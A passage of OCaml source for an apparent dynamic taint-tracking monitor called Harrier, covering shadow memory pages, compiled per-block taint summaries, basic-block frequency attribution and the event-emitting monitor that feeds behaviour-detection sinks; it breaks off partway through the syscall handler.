   already accumulated cost one pointer comparison per byte (interning),
   and [union] itself fast-paths the empty/equal cases.  Written as a
   tail loop so no [ref] cell is allocated per call. *)
let union_in_page sp p off n acc =
  let data = p.data in
  let stop = off + n in
  let rec go i acc =
    if i >= stop then acc
    else begin
      let t = data.(i) in
      go (i + 1)
        (if t != acc && t != empty_tag then Taint.Tagset.union sp acc t
         else acc)
    end
  in
  go off acc

let range s addr len =
  Obs.Counter.incr c_loads;
  let off = addr land page_mask in
  if len = 1 then begin
    (* single byte — every byte-sized mov lands here *)
    let p = get_page s (addr asr page_bits) in
    widen s (if p == no_page then empty_tag else p.data.(off))
  end
  else if len <= 0 then empty_tag
  else if off + len <= page_size then begin
    (* fast path: the whole range lives in one page *)
    let p = get_page s (addr asr page_bits) in
    widen s
      (if p == no_page then empty_tag
       else union_in_page s.space p off len empty_tag)
  end
  else begin
    let acc = ref empty_tag in
    let pos = ref addr and remaining = ref len in
    while !remaining > 0 do
      let off = !pos land page_mask in
      let n = min !remaining (page_size - off) in
      let p = get_page s (!pos asr page_bits) in
      if p != no_page then acc := union_in_page s.space p off n !acc;
      pos := !pos + n;
      remaining := !remaining - n
    done;
    widen s !acc
  end

(* Store [tag] over bytes [off, off+n) of the page at [idx],
   maintaining the live counters.  Idempotent stores — every byte
   already carries [tag], the common case when a loop re-copies the
   same buffer — are detected with pointer comparisons and write
   nothing. *)
let set_in_page s idx off n tag =
  let p = get_page s idx in
  if p == no_page then begin
    (* clearing an unmapped page is a no-op *)
    if tag != empty_tag then begin
      if Hashtbl.length s.pages >= s.budget then refuse s tag
      else begin
        let p = fresh_page () in
        Array.fill p.data off n tag;
        p.live <- n;
        s.tagged <- s.tagged + n;
        add_page s idx p
      end
    end
  end
  else begin
    let data = p.data in
    let stop = off + n in
    let rec all_same i = i >= stop || (data.(i) == tag && all_same (i + 1)) in
    if not (all_same off) then begin
      let old_live =
        if n = page_size then p.live
        else begin
          let rec count i c =
            if i >= stop then c
            else count (i + 1) (if data.(i) != empty_tag then c + 1 else c)
          in
          count off 0
        end
      in
      Array.fill data off n tag;
      let new_live = if tag == empty_tag then 0 else n in
      p.live <- p.live + new_live - old_live;
      s.tagged <- s.tagged + new_live - old_live;
      if p.live = 0 then remove_page s idx
    end
  end

let set_range s addr len tag =
  if len = 1 then set_byte s addr tag
  else if len > 0 then begin
    Obs.Counter.incr c_stores;
    let off = addr land page_mask in
    if off + len <= page_size then
      set_in_page s (addr asr page_bits) off len tag
    else begin
      let pos = ref addr and remaining = ref len in
      while !remaining > 0 do
        let off = !pos land page_mask in
        let n = min !remaining (page_size - off) in
        set_in_page s (!pos asr page_bits) off n tag;
        pos := !pos + n;
        remaining := !remaining - n
      done
    end
  end

let tagged_bytes s = s.tagged
