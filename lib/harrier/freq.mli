(** Basic-block frequency with last-application-BB attribution
    (Section 7.4, Fig. 3).

    Only blocks of the {e application} image (kind [Executable]) are
    counted: events triggered inside shared objects are attributed to the
    last application block executed before control entered the library,
    so `execve` reached through libc's [system] is charged to the
    application call site, not to libc's own (hot) blocks. *)

type t

val create : unit -> t

(** [on_bb t ~pid ~is_app addr] records a basic-block entry. *)
val on_bb : t -> pid:int -> is_app:bool -> int -> unit

(** [attributed_bb t ~pid] is the leader address of the last application
    block, if any application code ran yet. *)
val attributed_bb : t -> pid:int -> int option

(** [event_frequency t ~pid] is the execution count of the attributed
    block — the [frequency] slot of every Secpert fact. *)
val event_frequency : t -> pid:int -> int

(** [count t ~pid addr] is the execution count of one block. *)
val count : t -> pid:int -> int -> int

(** [hot t ~limit] is the top-[limit] hottest blocks as
    [(pid, leader, count)], deterministically ordered: count
    descending, then pid and address ascending. *)
val hot : t -> limit:int -> (int * int * int) list

(** [inherit_from t ~parent ~child] copies counts and attribution to a
    forked child. *)
val inherit_from : t -> parent:int -> child:int -> unit

(** [reset t ~pid] clears per-process state (execve). *)
val reset : t -> pid:int -> unit
