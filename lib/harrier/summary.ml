(* Compiled per-block taint transfer summaries.

   [make] lowers an [Isa.Block.flow] — the block's Section 7.3.1 taint
   transfer expressed over block-entry state — into flat arrays that
   [apply] can replay against a live [Shadow.t]: evaluate every touched
   address (affine over the machine's entry registers), bounds-check
   them all (any miss means the interpreter must run the block so the
   fault surfaces at exactly the right instruction), evaluate every
   taint expression against the {e entry} shadow, then apply the writes
   in program order.

   [apply] is the whole point of the compiled tier, so it is written to
   do no heap allocation on the steady-state path: the loops are plain
   indexed [for]s over parallel arrays (no closures, no tuple keys), and
   every taint expression memoizes its last input tags.  Tag sets are
   interned, so "the inputs didn't change since the previous
   application" is a handful of pointer compares — and a tight guest
   loop whose operand tags have stabilized (the overwhelmingly common
   case) replays its entire transfer without touching the union memo at
   all.

   Summaries are built per run and applied single-threaded, so the
   scratch and memo arrays live inside the summary value. *)

type outcome =
  | Applied of Taint.Tagset.t option
      (* summary applied; the payload is the new trigger-guard tag, if
         any compare/test in the block evaluated non-empty *)
  | Deopt  (* bounds precondition failed: interpret this execution *)

type addr = {
  a_regs : Isa.Reg.t array;  (* parallel with [a_coefs] *)
  a_coefs : int array;
  a_disp : int;
  a_len : int;
}

type ctex = {
  c_regs : Isa.Reg.t array;  (* entry register tags *)
  c_mems : int array;  (* indices into [s_addrs], entry range tags *)
  c_imm : bool;
  c_hw : bool;
  c_in : Taint.Tagset.t array;  (* memo: last input tags, regs then mems *)
  mutable c_out : Taint.Tagset.t;  (* memo: union of [c_in] (+ imm/hw) *)
  mutable c_valid : bool;  (* [c_in]/[c_out] hold a real evaluation *)
}

type cwrite =
  | W_reg of Isa.Reg.t * int  (* register, texpr index *)
  | W_mem of int * int  (* addr index, texpr index *)

type t = {
  s_space : Taint.Space.t;
  s_imm : Taint.Tagset.t;  (* the image's BINARY provenance tag *)
  s_hw : Taint.Tagset.t;
  s_addrs : addr array;
  s_texprs : ctex array;
  s_writes : cwrite array;  (* program order; later writes win *)
  s_guards : int array;  (* texpr indices, program order *)
  s_vals : int array;  (* scratch: evaluated address per s_addrs entry *)
  s_tags : Taint.Tagset.t array;  (* scratch: evaluated tag per texpr *)
}

let compile_avalue (av : Isa.Block.avalue) len =
  { a_regs = Array.of_list (List.map fst av.av_coefs);
    a_coefs = Array.of_list (List.map snd av.av_coefs);
    a_disp = av.av_disp;
    a_len = len }

let make ~space ~imm_tag (flow : Isa.Block.flow) =
  (* dedupe the touched ranges; every range a texpr or write mentions
     was recorded in [f_addrs] by the analysis *)
  let ranges = ref [] in
  List.iter
    (fun r -> if not (List.mem r !ranges) then ranges := r :: !ranges)
    flow.f_addrs;
  let ranges = Array.of_list (List.rev !ranges) in
  let addr_index (av, len) =
    let rec find i =
      if i >= Array.length ranges then
        invalid_arg "Summary.make: unrecorded range"
      else if ranges.(i) = (av, len) then i
      else find (i + 1)
    in
    find 0
  in
  let texprs = ref [] and n_texprs = ref 0 in
  let tex_index (x : Isa.Block.texpr) =
    match List.assoc_opt x !texprs with
    | Some i -> i
    | None ->
      let i = !n_texprs in
      texprs := (x, i) :: !texprs;
      incr n_texprs;
      i
  in
  let writes =
    List.map
      (fun (w : Isa.Block.write) ->
        match w with
        | Isa.Block.W_reg (r, x) -> W_reg (r, tex_index x)
        | Isa.Block.W_mem (av, len, x) ->
          W_mem (addr_index (av, len), tex_index x))
      flow.f_writes
  in
  let guards = List.map tex_index flow.f_guards in
  let compile_tex (x : Isa.Block.texpr) =
    let nr = List.length x.x_regs and nm = List.length x.x_mems in
    { c_regs = Array.of_list x.x_regs;
      c_mems = Array.of_list (List.map addr_index x.x_mems);
      c_imm = x.x_imm;
      c_hw = x.x_hw;
      c_in = Array.make (max 1 (nr + nm)) Taint.Tagset.empty;
      c_out = Taint.Tagset.empty;
      c_valid = false }
  in
  let by_index = List.sort (fun (_, i) (_, j) -> compare i j) !texprs in
  { s_space = space;
    s_imm = imm_tag;
    s_hw = Taint.Tagset.singleton space Taint.Source.Hardware;
    s_addrs = Array.map (fun (av, len) -> compile_avalue av len) ranges;
    s_texprs = Array.of_list (List.map (fun (x, _) -> compile_tex x) by_index);
    s_writes = Array.of_list writes;
    s_guards = Array.of_list guards;
    s_vals = Array.make (Array.length ranges) 0;
    s_tags = Array.make (max 1 !n_texprs) Taint.Tagset.empty }

let mem_size = Vm.Machine.mem_size

(* The helpers below are written as tail recursions over accumulators
   (rather than [for] + [ref]) so the steady-state [apply] allocates
   nothing at all — not even the ref cells. *)

let[@inline] eval_addr m (a : addr) =
  let n = Array.length a.a_regs in
  let rec go k v =
    if k >= n then v
    else
      go (k + 1)
        (v
         + Array.unsafe_get a.a_coefs k
           * Vm.Machine.get_reg m (Array.unsafe_get a.a_regs k))
  in
  go 0 a.a_disp

(* Evaluate every touched address into [s_vals]; [false] on the first
   bounds miss.  Unmasked evaluation is conservative: a
   wrapped-but-in-bounds address deopts rather than risking a mismatch
   with the CPU. *)
let rec eval_addrs s m i =
  i >= Array.length s.s_addrs
  || begin
    let a = Array.unsafe_get s.s_addrs i in
    let v = eval_addr m a in
    v >= 0
    && v + a.a_len <= mem_size
    && begin
      Array.unsafe_set s.s_vals i v;
      eval_addrs s m (i + 1)
    end
  end

(* Gather a texpr's entry inputs into its memo slots; the result is
   "every input was pointer-equal to the previous application's". *)
let rec gather_regs shadow x k same =
  if k >= Array.length x.c_regs then same
  else begin
    let t = Shadow.reg shadow (Array.unsafe_get x.c_regs k) in
    if t != Array.unsafe_get x.c_in k then begin
      Array.unsafe_set x.c_in k t;
      gather_regs shadow x (k + 1) false
    end
    else gather_regs shadow x (k + 1) same
  end

let rec gather_mems s shadow x nr k same =
  if k >= Array.length x.c_mems then same
  else begin
    let ai = Array.unsafe_get x.c_mems k in
    let t =
      Shadow.range shadow
        (Array.unsafe_get s.s_vals ai)
        (Array.unsafe_get s.s_addrs ai).a_len
    in
    if t != Array.unsafe_get x.c_in (nr + k) then begin
      Array.unsafe_set x.c_in (nr + k) t;
      gather_mems s shadow x nr (k + 1) false
    end
    else gather_mems s shadow x nr (k + 1) same
  end

let rec union_inputs sp x k n acc =
  if k >= n then acc
  else
    union_inputs sp x (k + 1) n
      (Taint.Tagset.union sp acc (Array.unsafe_get x.c_in k))

(* 2. evaluate every taint expression against the entry shadow — all
   expressions are entry-relative, so reads must complete before any
   write lands.  When every input matches the previous application's
   (tag sets are interned, so one pointer compare each), the cached
   union is replayed without touching the union memo. *)
let rec eval_texprs s shadow i =
  if i < Array.length s.s_texprs then begin
    let x = Array.unsafe_get s.s_texprs i in
    let nr = Array.length x.c_regs in
    let same = gather_regs shadow x 0 x.c_valid in
    let same = gather_mems s shadow x nr 0 same in
    if not same then begin
      let seed =
        if x.c_imm then
          if x.c_hw then Taint.Tagset.union s.s_space s.s_imm s.s_hw
          else s.s_imm
        else if x.c_hw then s.s_hw
        else Taint.Tagset.empty
      in
      x.c_out <-
        union_inputs s.s_space x 0 (nr + Array.length x.c_mems) seed;
      x.c_valid <- true
    end;
    Array.unsafe_set s.s_tags i x.c_out;
    eval_texprs s shadow (i + 1)
  end

(* 4. the last compare/test evaluating non-empty is the guard *)
let rec last_guard s i acc =
  if i >= Array.length s.s_guards then acc
  else
    let t = Array.unsafe_get s.s_tags (Array.unsafe_get s.s_guards i) in
    last_guard s (i + 1) (if Taint.Tagset.is_empty t then acc else Some t)

let applied_clean = Applied None

let apply s shadow m =
  (* 1. evaluate and bounds-check every touched address; a single miss
     deopts the whole block (the interpreter re-runs it and faults at
     the precise instruction) *)
  if not (eval_addrs s m 0) then Deopt
  else begin
    eval_texprs s shadow 0;
    (* 3. apply writes in program order *)
    let n_writes = Array.length s.s_writes in
    for i = 0 to n_writes - 1 do
      match Array.unsafe_get s.s_writes i with
      | W_reg (r, x) -> Shadow.set_reg shadow r (Array.unsafe_get s.s_tags x)
      | W_mem (ai, x) ->
        Shadow.set_range shadow
          (Array.unsafe_get s.s_vals ai)
          (Array.unsafe_get s.s_addrs ai).a_len
          (Array.unsafe_get s.s_tags x)
    done;
    match last_guard s 0 None with
    | None -> applied_clean
    | some -> Applied some
  end
