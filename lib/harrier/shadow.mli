(** Shadow taint state for one process.

    Every register carries one tag set; memory is tagged per byte
    (sparsely — untagged bytes have the empty tag).  This is the
    "Harrier Data Structures" box of Fig. 6 (Reg. DataFlow / Mem.
    DataFlow).

    Memory tags are stored in fixed-size pages allocated on first taint
    and reclaimed when fully cleared, so reads of untainted regions are
    a single table miss and [range]/[set_range] operate on page runs
    rather than per-byte hash lookups. *)

type t

(** [create ?page_budget ?space ()] builds an empty shadow.
    [page_budget] bounds the number of live shadow pages: once reached,
    stores that would allocate a new page are {e refused} — their tag is
    folded into a sticky overflow set that widens every subsequent read,
    so the shadow degrades to conservative over-tainting rather than
    silently dropping taint.  No budget means unbounded (exact)
    tracking.  [space] is the taint hash-consing arena every union runs
    in; it must be the space the stored tags were interned in.  Absent,
    a fresh private space is created. *)
val create : ?page_budget:int -> ?space:Taint.Space.t -> unit -> t

(** The taint space this shadow unions in (shared by {!clone}). *)
val space : t -> Taint.Space.t

(** [degraded s] is true once any store has been refused by the page
    budget; from then on reads over-approximate. *)
val degraded : t -> bool

(** [live_pages s] is the number of allocated shadow pages. *)
val live_pages : t -> int

(** [clone s] deep-copies the shadow (fork). *)
val clone : t -> t

val reg : t -> Isa.Reg.t -> Taint.Tagset.t

val set_reg : t -> Isa.Reg.t -> Taint.Tagset.t -> unit

val byte : t -> int -> Taint.Tagset.t

val set_byte : t -> int -> Taint.Tagset.t -> unit

(** [range s addr len] is the union of the tags of [len] bytes. *)
val range : t -> int -> int -> Taint.Tagset.t

(** [set_range s addr len tag] tags [len] bytes with [tag]. *)
val set_range : t -> int -> int -> Taint.Tagset.t -> unit

(** [tagged_bytes s] is the number of bytes currently carrying a
    non-empty tag (diagnostics / perf counters). *)
val tagged_bytes : t -> int
