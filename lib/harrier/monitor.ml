let log_src = Logs.Src.create "hth.harrier" ~doc:"Harrier monitor"

module Log = (val Logs.src_log log_src)

type config = {
  track_dataflow : bool;
  track_frequency : bool;
  shortcircuit : Shortcircuit.spec list;
  clone_window : int;
  shadow_page_budget : int option;
  tier : bool;
  tier_threshold : int;
}

let default_config =
  { track_dataflow = true; track_frequency = true;
    shortcircuit = [ Shortcircuit.gethostbyname ]; clone_window = 3000;
    shadow_page_budget = None; tier = true; tier_threshold = 8 }

(* Per-process monitor state, keyed by the machine (physical equality —
   a machine is the identity of a running program instance). *)

(* Cached per-segment facts for the instruction hook: consecutive
   instructions overwhelmingly execute from the same segment, and
   resolving the segment (a list scan) plus its BINARY tag (a
   string-keyed hash lookup) on every instruction dominates the
   data-flow tracking cost otherwise. *)
type seg_info = {
  si_base : int;
  si_limit : int;
  si_tag : Taint.Tagset.t;  (* BINARY tag of the segment's image *)
  si_app : bool;  (* executable (application) segment? *)
}

(* Tier state of one basic block (keyed by leader address).  A block
   starts [Cold] and counts hits; crossing the promotion threshold it
   becomes [Ready] — carrying a compiled taint summary when dataflow is
   on — or [Rejected] when the affine analysis cannot capture its flow
   exactly, in which case it stays interpreted forever (precision is
   never traded for speed). *)
type tier_entry =
  | Cold of int ref
  | Ready of Summary.t option  (* [None]: compiled body, dataflow off *)
  | Rejected

type pstate = {
  pid : int;
  shadow : Shadow.t;
  sc : Shortcircuit.t;
  tiers : (int, tier_entry) Hashtbl.t;
  mutable pending_origin : Taint.Tagset.t option;
      (** origin of the resource name seen at the pre-syscall hook,
          attached to the fd at the post hook *)
  mutable guard : Taint.Tagset.t;
      (** operand taint of the most recent {e tainted} compare/test —
          the data that last steered a conditional branch.  Untainted
          compares (loop counters, literals) do not clear it, so a
          trigger check survives the bookkeeping between the compare
          and the armed payload's transfer. *)
  mutable seg_info : seg_info option;  (* one-entry instruction cache *)
}

type sink = Events.t -> Osim.Kernel.decision

type t = {
  cfg : config;
  space : Taint.Space.t;  (* taint arena shared by every process shadow *)
  kernel : Osim.Kernel.t;
  freq : Freq.t;
  resources : Resources.t;
  routines : (int, string) Hashtbl.t;  (* short-circuited routine entries *)
  name_origins : (string, Taint.Tagset.t) Hashtbl.t;
      (* last known origin of each resource name, for transfer sources *)
  imm_tags : (string, Taint.Tagset.t) Hashtbl.t;  (* image -> BINARY tag *)
  mutable pmap : (Vm.Machine.t * pstate) list;
  mutable cur : (Vm.Machine.t * pstate) option;
  mutable clone_times : int list;
  mutable sinks : (string * sink) list;  (* dispatch order = registration *)
  mutable count : int;
  mutable ts_compiled : int;  (* block executions run as compiled bodies *)
  mutable ts_summarized : int;  (* of those, with a taint summary applied *)
  mutable ts_deopt : int;  (* promotion rejections + runtime bail-outs *)
}

let config t = t.cfg

let space t = t.space

let subscribe t ~name f = t.sinks <- t.sinks @ [ (name, f) ]

let subscribers t = List.map fst t.sinks

let event_count t = t.count

let c_unknown = Obs.Counter.make "harrier.unknown_machine"

(* [state_of t m] is [None] for a machine the monitor never saw.  That
   indicates a wiring bug, but it must not abort the whole session: the
   hooks and kernel callbacks degrade to no-ops (counted under
   [harrier.unknown_machine]) and the run is reported, not crashed. *)
let state_of t m =
  match t.cur with
  | Some (m', s) when m' == m -> Some s
  | _ ->
    (match List.find_opt (fun (m', _) -> m' == m) t.pmap with
     | Some ((_, s) as hit) ->
       t.cur <- Some hit;
       Some s
     | None ->
       Obs.Counter.incr c_unknown;
       Log.warn (fun f -> f "unknown machine: observation dropped");
       None)

let shadow_of_pid t pid =
  List.find_map
    (fun (_, s) -> if s.pid = pid then Some s.shadow else None)
    t.pmap

(* Human-readable degradation reasons, one per affected process, in pid
   order (deterministic for reports and traces). *)
let degraded t =
  t.pmap
  |> List.filter (fun (_, s) -> Shadow.degraded s.shadow)
  |> List.map (fun (_, s) -> s)
  |> List.sort (fun a b -> compare a.pid b.pid)
  |> List.map (fun s ->
         Fmt.str
           "pid %d: shadow page budget reached (%d live pages); taint \
            saturated to conservative over-tainting"
           s.pid (Shadow.live_pages s.shadow))

let imm_tag t image =
  match Hashtbl.find_opt t.imm_tags image with
  | Some tag -> tag
  | None ->
    let tag = Taint.Tagset.singleton t.space (Taint.Source.Binary image) in
    Hashtbl.replace t.imm_tags image tag;
    tag

let c_events = Obs.Counter.make "harrier.events"

let event_kind : Events.t -> string = function
  | Events.Exec _ -> "exec"
  | Events.Clone _ -> "clone"
  | Events.Access _ -> "access"
  | Events.Alloc _ -> "alloc"
  | Events.Transfer _ -> "transfer"

(* Structured per-shape fields on the "flow" line: enough that a
   forensic consumer can resolve resource names and taint origins from
   the trace alone, without re-executing the guest.  [desc] stays last
   as the human-readable rendering. *)
let flow_fields : Events.t -> (string * Obs.value) list = function
  | Events.Exec { path; _ } ->
    [ "call", Obs.Str "SYS_execve";
      "res_kind", Obs.Str (Events.kind_name path.r_kind);
      "res_name", Obs.Str path.r_name;
      "origin", Obs.Str (Taint.Tagset.to_string path.r_origin) ]
  | Events.Access { call; res; _ } ->
    [ "call", Obs.Str call;
      "res_kind", Obs.Str (Events.kind_name res.r_kind);
      "res_name", Obs.Str res.r_name;
      "origin", Obs.Str (Taint.Tagset.to_string res.r_origin) ]
  | Events.Clone { total; recent; _ } ->
    [ "total", Obs.Int total; "recent", Obs.Int recent ]
  | Events.Alloc { requested; total; _ } ->
    [ "requested", Obs.Int requested; "total", Obs.Int total ]
  | Events.Transfer { call; data; sources; target; via_server; len; _ } ->
    [ "call", Obs.Str call;
      "target_kind", Obs.Str (Events.kind_name target.r_kind);
      "target_name", Obs.Str target.r_name;
      "target_origin", Obs.Str (Taint.Tagset.to_string target.r_origin);
      "data", Obs.Str (Taint.Tagset.to_string data);
      "len", Obs.Int len;
      "sources",
      Obs.Str
        (String.concat ";"
           (List.map
              (fun (src, o) ->
                Taint.Source.to_string src ^ "<-"
                ^ Taint.Tagset.to_string o)
              sources)) ]
    @ (match via_server with
       | None -> []
       | Some srv ->
         [ "server_name", Obs.Str srv.Events.r_name;
           "server_origin",
           Obs.Str (Taint.Tagset.to_string srv.Events.r_origin) ])

(* The trace sink: one structured "flow" line per event.  Must be the
   {e first} subscriber so the flow line is the very next trace emission
   after the event's meta was stamped (the meta's [step] is the index
   that next line will get), and so it precedes any "rule"/"warning"
   lines a policy sink emits for the same event. *)
let trace_sink e =
  if Obs.Trace.enabled () then begin
    let m = Events.meta_of e in
    Obs.Trace.emit "flow"
      ([ "kind", Obs.Str (event_kind e); "pid", Obs.Int m.pid;
         "tick", Obs.Int m.time; "freq", Obs.Int m.freq;
         "addr", Obs.Int m.addr ]
       @ flow_fields e
       @ [ "desc", Obs.Str (Fmt.to_to_string Events.pp e) ])
  end;
  Osim.Kernel.Allow

(* The metrics sink: per-run event totals, by kind. *)
let metrics_sink e =
  Obs.Counter.incr c_events;
  Obs.Counter.incr (Obs.Counter.labeled "harrier.events" (event_kind e));
  Osim.Kernel.Allow

(* Dispatch an event to every subscriber in registration order.  All
   sinks see every event — a [Kill] verdict does not short-circuit the
   rest (so accumulators and metrics stay exact) — and the combined
   decision is [Kill] iff any sink said so. *)
let emit t e =
  t.count <- t.count + 1;
  Log.debug (fun f -> f "event %a" Events.pp e);
  List.fold_left
    (fun acc (_, f) ->
      match f e with Osim.Kernel.Kill -> Osim.Kernel.Kill | Allow -> acc)
    Osim.Kernel.Allow t.sinks

(* Notify subscribers of an event whose decision the kernel will not
   honour (e.g. SYS_accept at the post hook). *)
let emit_log_only t e = ignore (emit t e)

let meta t (s : pstate) : Events.meta =
  { pid = s.pid; time = Osim.Kernel.ticks t.kernel;
    freq = Freq.event_frequency t.freq ~pid:s.pid;
    addr =
      (match Freq.attributed_bb t.freq ~pid:s.pid with
       | Some a -> a
       | None -> 0);
    (* with a sink installed this is exactly the step of the event's
       own "flow" line (nothing emits between here and [emit]); with
       tracing off, fall back to the event ordinal *)
    step = (if Obs.Trace.enabled () then Obs.Trace.steps () else t.count) }

let hot_blocks t ~limit = Freq.hot t.freq ~limit

let string_origin s m addr =
  match Vm.Machine.read_cstring m addr with
  | exception Vm.Machine.Fault_exn _ -> Taint.Tagset.empty
  | str -> Shadow.range s.shadow addr (max 1 (String.length str))

(* ------------------------------------------------------------------ *)
(* Machine hooks                                                       *)

(* Sentinel for "no segment at this address": an empty interval, so the
   cache-hit test never matches it and lookups stay allocation-free. *)
let no_seg_info =
  { si_base = 0; si_limit = 0; si_tag = Taint.Tagset.empty; si_app = false }

let seg_info_at t s m addr =
  match s.seg_info with
  | Some si when addr >= si.si_base && addr < si.si_limit -> si
  | _ ->
    (match Vm.Machine.segment_at m addr with
     | None -> no_seg_info
     | Some seg ->
       let si =
         { si_base = seg.seg_base;
           si_limit = seg.seg_base + Array.length seg.seg_insns;
           si_tag = imm_tag t seg.seg_image;
           si_app = seg.seg_kind = Binary.Image.Executable }
       in
       s.seg_info <- Some si;
       si)

let hook_bb t m addr =
  match state_of t m with
  | None -> ()
  | Some s ->
    let is_app = (seg_info_at t s m addr).si_app in
    Freq.on_bb t.freq ~pid:s.pid ~is_app addr

let hook_insn t m addr insn =
  match state_of t m with
  | None -> ()
  | Some s ->
    (match (insn : Isa.Insn.t) with
     | Call target ->
       let dest = Vm.Machine.read_operand m Isa.Insn.W target in
       (match Hashtbl.find_opt t.routines dest with
        | Some routine ->
          Shortcircuit.on_call s.sc ~routine m s.shadow ~ret_addr:(addr + 1)
        | None -> ())
     | Ret -> Shortcircuit.on_ret s.sc m s.shadow
     | _ -> ());
    if t.cfg.track_dataflow then begin
      (* guard taint: immediates use an empty tag on purpose — only
         {e data} taint reaching a compare marks trigger-gated flow *)
      (match (insn : Isa.Insn.t) with
       | Cmp (sz, a, b) ->
         let tag =
           Taint.Tagset.union t.space
             (Dataflow.operand_tag s.shadow m Taint.Tagset.empty sz a)
             (Dataflow.operand_tag s.shadow m Taint.Tagset.empty sz b)
         in
         if not (Taint.Tagset.is_empty tag) then s.guard <- tag
       | Test (a, b) ->
         let tag =
           Taint.Tagset.union t.space
             (Dataflow.operand_tag s.shadow m Taint.Tagset.empty Isa.Insn.W a)
             (Dataflow.operand_tag s.shadow m Taint.Tagset.empty Isa.Insn.W b)
         in
         if not (Taint.Tagset.is_empty tag) then s.guard <- tag
       | _ -> ());
      Dataflow.step s.shadow m ~imm_tag:(seg_info_at t s m addr).si_tag insn
    end

(* ------------------------------------------------------------------ *)
(* Tier policy                                                         *)

let c_promoted = Obs.Counter.make "vm.blocks.promoted"
let c_deopt = Obs.Counter.make "vm.blocks.deopt"
let c_summary_applied = Obs.Counter.make "harrier.summary.applied"

let apply_summary t s m sm =
  match Summary.apply sm s.shadow m with
  | Summary.Applied g ->
    Obs.Counter.incr c_summary_applied;
    t.ts_compiled <- t.ts_compiled + 1;
    t.ts_summarized <- t.ts_summarized + 1;
    (match g with Some tag -> s.guard <- tag | None -> ());
    true
  | Summary.Deopt ->
    (* an address left the block's proven bounds this time around: the
       interpreter runs the block so the fault (or wrapped access)
       lands at exactly the right instruction; the block stays Ready *)
    Obs.Counter.incr c_deopt;
    t.ts_deopt <- t.ts_deopt + 1;
    false

let promote t s (seg : Vm.Machine.segment) addr len m =
  Obs.Counter.incr c_promoted;
  if not t.cfg.track_dataflow then begin
    Hashtbl.replace s.tiers addr (Ready None);
    t.ts_compiled <- t.ts_compiled + 1;
    true
  end
  else
    match Isa.Block.analyze seg.seg_insns ~pos:(addr - seg.seg_base) ~len with
    | None ->
      (* flow not exactly capturable: permanent deopt to interpretation *)
      Obs.Counter.incr c_deopt;
      t.ts_deopt <- t.ts_deopt + 1;
      Hashtbl.replace s.tiers addr Rejected;
      false
    | Some flow ->
      let sm =
        Summary.make ~space:t.space ~imm_tag:(imm_tag t seg.seg_image) flow
      in
      Hashtbl.replace s.tiers addr (Ready (Some sm));
      apply_summary t s m sm

(* The [on_block] hook: the VM offers a straight-line body before
   running it; answering [true] commits this execution to the compiled
   tier, with this hook's summary application standing in for the
   per-instruction dataflow hooks.  Bodies contain no control transfer,
   so shortcircuit call/return tracking is unaffected. *)
let hook_block t m seg addr len =
  match state_of t m with
  | None -> false
  | Some s ->
    (match Hashtbl.find_opt s.tiers addr with
     | Some (Ready None) ->
       t.ts_compiled <- t.ts_compiled + 1;
       true
     | Some (Ready (Some sm)) -> apply_summary t s m sm
     | Some Rejected -> false
     | Some (Cold n) ->
       incr n;
       if !n >= t.cfg.tier_threshold then promote t s seg addr len m
       else false
     | None ->
       if t.cfg.tier_threshold <= 1 then promote t s seg addr len m
       else begin
         Hashtbl.replace s.tiers addr (Cold (ref 1));
         false
       end)

let tier_stats t = (t.ts_compiled, t.ts_summarized, t.ts_deopt)

(* ------------------------------------------------------------------ *)
(* Kernel callbacks                                                    *)

let on_process_start t (p : Osim.Process.t) =
  t.pmap <- List.filter (fun (_, s) -> s.pid <> p.pid) t.pmap;
  t.cur <- None;
  let s =
    { pid = p.pid;
      shadow =
        Shadow.create ?page_budget:t.cfg.shadow_page_budget ~space:t.space ();
      sc = Shortcircuit.create t.cfg.shortcircuit;
      tiers = Hashtbl.create 32; pending_origin = None;
      guard = Taint.Tagset.empty; seg_info = None }
  in
  t.pmap <- (p.machine, s) :: t.pmap;
  Freq.reset t.freq ~pid:p.pid;
  (* argv / environment live on the initial stack: USER_INPUT *)
  let esp = Vm.Machine.get_reg p.machine ESP in
  Shadow.set_range s.shadow esp
    (Osim.Kernel.stack_top - esp)
    (Taint.Tagset.singleton t.space Taint.Source.User_input)

let on_image_load t (p : Osim.Process.t) (img : Binary.Image.t) =
  (match state_of t p.machine with
   | None -> ()
   | Some s ->
     (* mappings changed; drop the instruction-hook segment cache *)
     s.seg_info <- None;
     let tag = imm_tag t img.path in
     List.iter
       (fun (sec : Binary.Section.t) ->
         Shadow.set_range s.shadow sec.addr (Binary.Section.size sec) tag)
       img.sections);
  List.iter
    (fun (e : Binary.Symbol.export) ->
      if
        List.exists
          (fun (spec : Shortcircuit.spec) ->
            String.equal spec.routine e.sym_name)
          t.cfg.shortcircuit
      then Hashtbl.replace t.routines e.sym_addr e.sym_name)
    img.exports

let on_fork t ~(parent : Osim.Process.t) ~(child : Osim.Process.t) =
  match state_of t parent.machine with
  | None -> ()
  | Some ps ->
    let cs =
      { pid = child.pid; shadow = Shadow.clone ps.shadow;
        sc = Shortcircuit.clone ps.sc;
        (* fresh tier table: the child re-warms its own hit counts
           (summaries are cheap to rebuild and hit counts are per
           process by design) *)
        tiers = Hashtbl.create 32; pending_origin = ps.pending_origin;
        guard = ps.guard; seg_info = ps.seg_info }
    in
    (* the child's eax holds fork's result, written by the kernel *)
    Shadow.set_reg cs.shadow EAX Taint.Tagset.empty;
    t.pmap <- (child.machine, cs) :: t.pmap;
    Freq.inherit_from t.freq ~parent:parent.pid ~child:child.pid;
    Resources.inherit_from t.resources ~parent:parent.pid ~child:child.pid

let file_resource name origin : Events.resource =
  { r_kind = Events.R_file; r_name = name; r_origin = origin }

let sock_resource name origin : Events.resource =
  { r_kind = Events.R_socket; r_name = name; r_origin = origin }

let on_pre_syscall t (p : Osim.Process.t) (sc : Osim.Syscall.t) =
  match state_of t p.machine with
  | None -> Osim.Kernel.Allow
  | Some s ->
  let m = p.machine in
  let pid = s.pid in
  match sc with
  | Execve { path_addr; path; argv } ->
    let origin = string_origin s m path_addr in
    emit t (Events.Exec { path = file_resource path origin; argv;
                          meta = meta t s })
  | Fork ->
    let now = Osim.Kernel.ticks t.kernel in
    t.clone_times <-
      now :: List.filter (fun tm -> now - tm <= t.cfg.clone_window)
               t.clone_times;
    emit t
      (Events.Clone
         { total = Osim.Kernel.clone_total t.kernel + 1;
           recent = List.length t.clone_times;
           window = t.cfg.clone_window; meta = meta t s })
  | Open { path_addr; path; _ } | Creat { path_addr; path } ->
    let origin = string_origin s m path_addr in
    s.pending_origin <- Some origin;
    emit t
      (Events.Access
         { call = Osim.Syscall.name sc; res = file_resource path origin;
